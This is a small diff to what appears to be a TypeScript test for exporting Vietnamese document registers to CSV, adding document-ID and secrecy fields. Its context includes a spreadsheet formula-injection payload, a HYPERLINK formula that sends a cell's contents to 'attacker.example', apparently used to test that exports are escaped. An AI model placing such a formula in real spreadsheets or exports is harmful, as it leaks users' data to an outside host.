@@ -5,6 +5,7 @@ import { parseCsv } from './support/csv';
 const HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây")';
 
 const outgoing: OutgoingRegisterRow = {
+  documentId: 'doc-15',
   number: 15,
   notation: '15-NQ/TU',
   issuedAt: '2026-03-01T20:30:00.000Z',
@@ -27,6 +28,7 @@ const incoming: IncomingRegisterRow = {
   handler: '\tVũ Đức Anh',
   deadline: '2026-03-15',
   status: 'processing',
+  secrecy: 'none',
 };
 
 /** The data row of a register, without the byte-order mark and header. */
